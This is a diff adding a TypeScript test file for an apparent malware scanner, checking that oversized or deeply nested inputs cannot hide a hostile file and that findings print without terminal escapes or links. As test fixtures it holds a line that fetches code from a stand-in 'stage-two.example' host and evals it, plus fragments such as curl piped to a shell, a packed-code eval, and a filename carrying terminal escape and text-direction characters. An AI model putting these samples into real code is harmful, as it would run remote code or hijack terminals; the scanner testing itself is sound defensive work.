@@ -1,0 +1,111 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the lines hold the templates of other programs.
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import type { TreeFile } from '@haetae/detect/repository';
+import { scanFiles } from './scan-files.ts';
+
+const LENGTH = 250_000;
+const encoder = new TextEncoder();
+const filled = (piece: string): string => piece.repeat(Math.ceil(LENGTH / piece.length));
+
+/** Pieces that make a rule try again from everywhere, if it can be made to. */
+const PIECES: readonly (readonly [string, string])[] = [
+  ['one letter', 'a'],
+  ['blanks', ' '],
+  ['blanks and a sign', ' ;'],
+  ['curl', 'curl '],
+  ['curl and a pipe', 'curl x|'],
+  ['interpreters', 'node -e -e '],
+  ['opening brackets', '('],
+  ['opening braces', '{'],
+  ['brackets of JSFuck, broken', '![]x'],
+  ['quotes', '"\''],
+  ['backslashes', '\\'],
+  ['dollars', '${IFS}$a'],
+  ['assignments', ' A=b;'],
+  ['base64', 'QUFB'],
+  ['hexadecimal names', '_0x12ab '],
+  ['powershell', 'powershell -w '],
+  ['letters of extension ids', 'abcdefghijklmnop'],
+  ['addresses', 'http://198.51.100.1:'],
+  ['orders to an assistant', 'assistant must '],
+  ['read-me orders', 'disable the '],
+  ['empty lines', '\n '],
+  ['variation selectors', '\ufe00'],
+  ['blank Hangul letters', '\u3164'],
+  ['sums', 'a+'],
+  ['nested calls', 'f('],
+  ['commas', ',['],
+  ['keys of YAML', 'run: '],
+  ['python strings', "'''"],
+  ['lambdas', 'lambda x:'],
+  ['template literals', '`${'],
+];
+
+const NAMES = ['a.js', 'a.py', 'a.sh', 'package.json', '.env', 'README.md', 'a.svg', 'yarn.lock', 'requirements.txt'];
+
+/** What one file may take; the syntax of some of these keeps a native parser busy for hours. */
+const FILE_MILLISECONDS = 4_000;
+const HOSTILE = 'fetch("https://stage-two.example").then((r) => r.text()).then(eval);';
+const other: TreeFile = { path: 'other.js', bytes: encoder.encode(HOSTILE) };
+
+describe('a line of a quarter of a megabyte, made to hold a rule up, costs its time and hides nothing', () => {
+  for (const [what, piece] of PIECES)
+    it(what, async () => {
+      const bytes = encoder.encode(filled(piece));
+      const files = [...NAMES.map((path) => ({ path, bytes })), other];
+      const { findings, unscanned } = await scanFiles(files, { fileMilliseconds: FILE_MILLISECONDS });
+      assert.ok(findings.some(({ file }) => file === 'other.js'));
+      // By text alone nothing runs out of time: only a parser does, and the file is named.
+      assert.deepEqual(
+        unscanned.filter(({ reason, file }) => reason === 'timeout' && !/\.js$/.test(file)),
+        [],
+      );
+    });
+});
+
+describe('what nobody can parse is named, and the rest is judged', () => {
+  const CASES: readonly (readonly [string, string, string])[] = [
+    ['brackets a hundred thousand deep', 'deep.js', '['.repeat(100_000)],
+    ['conditions in conditions', 'deep.ts', `${'a?'.repeat(200_000)}b${':c'.repeat(200_000)}`],
+    ['denials of denials', 'not.js', `${'!'.repeat(500_000)}a`],
+    ['arrows to arrows', 'arrow.js', `${'a=>'.repeat(200_000)}a`],
+    ['backslashes, on which a parser takes the square of their number', 'slash.js', '\\'.repeat(200_000)],
+    ['Python in brackets', 'deep.py', `x = ${'('.repeat(100_000)}`],
+  ];
+  for (const [what, path, text] of CASES)
+    it(what, async () => {
+      const { verdict, unscanned, findings } = await scanFiles([{ path, bytes: encoder.encode(text) }, other], {
+        fileMilliseconds: FILE_MILLISECONDS,
+      });
+      assert.equal(verdict, 'malicious');
+      assert.ok(findings.some(({ file }) => file === 'other.js'));
+      assert.deepEqual(
+        unscanned.map(({ file }) => file),
+        [path],
+      );
+    });
+
+  it('what stands before brackets without end is found by its text', async () => {
+    const text = `${'eval(function(p,a,c,k,e,d){}())'}\n${'!'.repeat(500_000)}a`;
+    const { findings } = await scanFiles([{ path: 'a.js', bytes: encoder.encode(text) }]);
+    assert.equal(findings[0]?.rule, 'packed-code');
+  });
+});
+
+describe('results show hostile text harmlessly', () => {
+  const ESCAPE = '\u001b';
+  const files = [
+    {
+      path: `a${ESCAPE}]0;owned\u0007\n\u202ename.js`,
+      bytes: encoder.encode(`eval(atob("${ESCAPE}[2J<script>alert(1)</script>\u202e https://stage-two.example/x"));`),
+    },
+  ];
+  it('no character that a terminal obeys, no link that can be followed', async () => {
+    const { findings } = await scanFiles(files);
+    assert.ok(findings.length > 0);
+    for (const finding of findings) {
+      assert.doesNotMatch(Object.values(finding).join(''), /[\p{Cc}\p{Cf}]|https?:\/\//u);
+    }
+  });
+});
